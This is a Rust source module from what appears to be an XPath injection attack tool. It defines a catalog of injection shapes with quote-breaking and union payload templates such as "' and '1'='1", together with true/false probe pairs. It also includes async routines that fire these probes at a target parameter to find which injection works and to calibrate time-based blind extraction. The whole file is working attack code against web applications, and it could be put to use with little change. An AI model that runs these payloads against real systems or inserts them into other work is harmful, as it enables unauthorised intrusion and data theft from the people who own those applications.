//! Injection shapes: where in the victim's XPath expression user input
//! lands and how to smuggle a boolean sub-expression into that slot.
//!
//! Each catalog entry carries a pair of discriminating probes (one expected
//! true, one expected false). Detection renders the probes with the actual
//! working value and keeps the entries whose oracle outcomes match the
//! expected vector exactly.

use crate::context::AttackContext;
use crate::error::{Error, Result};
use crate::request::{check, timed_request};
use crate::xpath::Expression;
use futures::future::join_all;
use tracing::{debug, info};

/// How a boolean expression is combined with the working value to produce
/// the wire-form parameter payload
#[derive(Debug, Clone, Copy)]
pub enum Payload {
    /// Format string with `{working}` and `{expression}` placeholders
    Template(&'static str),
    /// Combinator building the payload through the expression model
    Builder(fn(&str, &Expression) -> Expression),
}

/// One injection shape from the catalog
#[derive(Debug, Clone, Copy)]
pub struct Injection {
    pub name: &'static str,
    /// Illustrative server-side expression, `?` marking the injection point
    pub example: &'static str,
    /// `(template, expected)` probe pairs; templates take `{working}`
    pub test_template_payloads: &'static [(&'static str, bool)],
    pub payload: Payload,
}

impl Injection {
    /// Render the payload around a structured expression
    pub fn render_expression(&self, working: &str, expression: &Expression) -> Result<String> {
        match self.payload {
            Payload::Template(template) => Ok(template
                .replace("{working}", working)
                .replace("{expression}", &expression.to_string())),
            Payload::Builder(build) => Ok(build(working, expression).to_string()),
        }
    }

    /// Render the payload around raw expression text. Builder payloads
    /// combine operands structurally and reject raw strings; callers that
    /// need this form (in-band calibration) fall back to a probe template.
    pub fn render_raw(&self, working: &str, expression: &str) -> Result<String> {
        match self.payload {
            Payload::Template(template) => Ok(template
                .replace("{working}", working)
                .replace("{expression}", expression)),
            Payload::Builder(_) => Err(Error::PayloadRender(self.name.to_string())),
        }
    }

    /// The discriminating probes rendered with the actual working value
    pub fn test_payloads(&self, working: &str) -> Vec<(String, bool)> {
        self.test_template_payloads
            .iter()
            .map(|(template, expected)| (template.replace("{working}", working), *expected))
            .collect()
    }
}

fn attribute_prefix(working: &str, expression: &Expression) -> Expression {
    expression.clone().and(Expression::raw(working))
}

fn attribute_postfix(working: &str, expression: &Expression) -> Expression {
    Expression::raw(working)
        .and(expression.clone())
        .and(Expression::raw(working))
}

fn element_prefix(working: &str, expression: &Expression) -> Expression {
    Expression::raw(".")
        .index(expression.clone())
        .add_path(&format!("/{}", working))
}

fn element_postfix(working: &str, expression: &Expression) -> Expression {
    Expression::raw(working).index(expression.clone())
}

/// The injection catalog. Order matters: detection reports survivors in
/// catalog order and the first survivor drives the attack.
pub const INJECTORS: &[Injection] = &[
    Injection {
        name: "integer",
        example: "/lib/book[id=?]",
        test_template_payloads: &[
            ("{working} and 1=1", true),
            ("{working} and 1=2", false),
        ],
        payload: Payload::Template("{working} and {expression}"),
    },
    Injection {
        name: "string - single quote",
        example: "/lib/book[name='?']",
        test_template_payloads: &[
            ("{working}' and '1'='1", true),
            ("{working}' and '1'='2", false),
        ],
        payload: Payload::Template("{working}' and {expression} and '1'='1"),
    },
    Injection {
        name: "string - single quote - or",
        example: "/lib/book[name='?'] (or-based, use with dummy value)",
        test_template_payloads: &[
            ("{working}' or true() and '1'='1", true),
            ("{working}' or false() and '1'='1", false),
        ],
        payload: Payload::Template("{working}' or {expression} and '1'='1"),
    },
    Injection {
        name: "string - double quote",
        example: "/lib/book[name=\"?\"]",
        test_template_payloads: &[
            ("{working}\" and \"1\"=\"1", true),
            ("{working}\" and \"1\"=\"2", false),
        ],
        payload: Payload::Template("{working}\" and {expression} and \"1\"=\"1"),
    },
    Injection {
        name: "string - double quote - or",
        example: "/lib/book[name=\"?\"] (or-based, use with dummy value)",
        test_template_payloads: &[
            ("{working}\" or true() and \"1\"=\"1", true),
            ("{working}\" or false() and \"1\"=\"1", false),
        ],
        payload: Payload::Template("{working}\" or {expression} and \"1\"=\"1"),
    },
    Injection {
        name: "attribute name - prefix",
        example: "/lib/book[?=value]",
        test_template_payloads: &[
            ("1=1 and {working}", true),
            ("1=2 and {working}", false),
        ],
        payload: Payload::Builder(attribute_prefix),
    },
    Injection {
        name: "attribute name - postfix",
        example: "/lib/book[?=value]",
        test_template_payloads: &[
            ("{working} and not 1=2 and {working}", true),
            ("{working} and 1=2 and {working}", false),
        ],
        payload: Payload::Builder(attribute_postfix),
    },
    Injection {
        name: "element name - prefix",
        example: "/lib/something?/",
        test_template_payloads: &[
            (".[true()]/{working}", true),
            (".[false()]/{working}", false),
        ],
        payload: Payload::Builder(element_prefix),
    },
    Injection {
        name: "element name - postfix",
        example: "/lib/?something",
        test_template_payloads: &[
            ("{working}[true()]", true),
            ("{working}[false()]", false),
        ],
        payload: Payload::Builder(element_postfix),
    },
    Injection {
        name: "function call - last string parameter - single quote",
        example: "/lib/something[function(?)]",
        test_template_payloads: &[
            ("{working}') and true() and string('1'='1", true),
            ("{working}') and false() and string('1'='1", false),
        ],
        payload: Payload::Template("{working}') and {expression} and string('1'='1"),
    },
    Injection {
        name: "function call - last string parameter - double quote",
        example: "/lib/something[function(?)]",
        test_template_payloads: &[
            ("{working}\") and true() and string(\"1\"=\"1", true),
            ("{working}\") and false() and string(\"1\"=\"1", false),
        ],
        payload: Payload::Template("{working}\") and {expression} and string(\"1\"=\"1"),
    },
    Injection {
        name: "other elements - last string parameter - double quote",
        example: "/lib/something[function(?) and false()] | //*[?]",
        test_template_payloads: &[
            ("{working}\") and false()] | //*[true() and string(\"1\"=\"1", true),
            ("{working}\") and false()] | //*[false() and string(\"1\"=\"1", false),
        ],
        payload: Payload::Template("{working}\") and false()] | //*[{expression} and string(\"1\"=\"1"),
    },
];

/// Boolean detection: run every catalog entry's probe pair through the
/// oracle, fully in parallel across shapes, and keep the entries whose
/// outcomes equal the expected vector.
///
/// If every probe (including the expected-false ones) answered true, the
/// page is most likely echoing evaluator errors as a truthy response and
/// the oracle is useless: that is reported as [`Error::DegenerateOracle`]
/// rather than a silent empty result.
pub async fn detect_injections(context: &AttackContext) -> Result<Vec<Injection>> {
    let working = context.target_parameter_value().to_string();

    let probes: Vec<_> = INJECTORS
        .iter()
        .map(|injector| {
            let payloads = injector.test_payloads(&working);
            async move {
                let futures: Vec<_> = payloads
                    .iter()
                    .map(|(payload, _)| check(context, payload))
                    .collect();
                let results = join_all(futures).await;
                (injector, payloads, results)
            }
        })
        .collect();
    let outcomes = join_all(probes).await;

    let mut detected = Vec::new();
    let mut all_true = true;
    for (injector, payloads, results) in outcomes {
        let results: Vec<bool> = results.into_iter().collect::<Result<_>>()?;
        all_true &= results.iter().all(|r| *r);
        let matches = results
            .iter()
            .zip(payloads.iter())
            .all(|(result, (_, expected))| result == expected);
        debug!(injection = injector.name, detected = matches, "probe pair evaluated");
        if matches {
            detected.push(*injector);
        }
    }

    if detected.is_empty() && all_true {
        return Err(Error::DegenerateOracle);
    }
    Ok(detected)
}

/// Timed detection: for each shape, measure a `false() and {delay}` and a
/// `true() and {delay}` payload. A true probe must evaluate the delay while
/// a false one short-circuits, so acceptance requires the true time to
/// dominate (`> 2x` the false time and above one second of absolute cost).
///
/// Returns the survivors and the calibrated threshold: the midpoint of the
/// best-observed pair. Entries whose payload combinator fails to render
/// are skipped.
pub async fn detect_injections_timed(context: &AttackContext) -> Result<(Vec<Injection>, f64)> {
    let working = context.target_parameter_value().to_string();
    let delay = context.time_delay_expr.clone().unwrap_or_default();

    let mut detected = Vec::new();
    let mut best_true_time = 0.0_f64;
    let mut best_false_time = 0.0_f64;

    for injector in INJECTORS {
        let true_expr = Expression::raw(format!("true() and {}", delay));
        let false_expr = Expression::raw(format!("false() and {}", delay));

        let (true_payload, false_payload) = match (
            injector.render_expression(&working, &true_expr),
            injector.render_expression(&working, &false_expr),
        ) {
            (Ok(t), Ok(f)) => (t, f),
            _ => {
                info!(injection = injector.name, "skipped: payload failed to render");
                continue;
            }
        };

        let false_time = timed_request(context, &false_payload).await?;
        let true_time = timed_request(context, &true_payload).await?;
        info!(
            injection = injector.name,
            false_time, true_time, "timed probe pair"
        );

        if true_time > false_time * 2.0 && true_time > 1.0 {
            detected.push(*injector);
            if true_time > best_true_time {
                best_true_time = true_time;
                best_false_time = false_time;
            }
        }
    }

    let threshold = if detected.is_empty() {
        0.0
    } else {
        (best_true_time + best_false_time) / 2.0
    };
    Ok((detected, threshold))
}
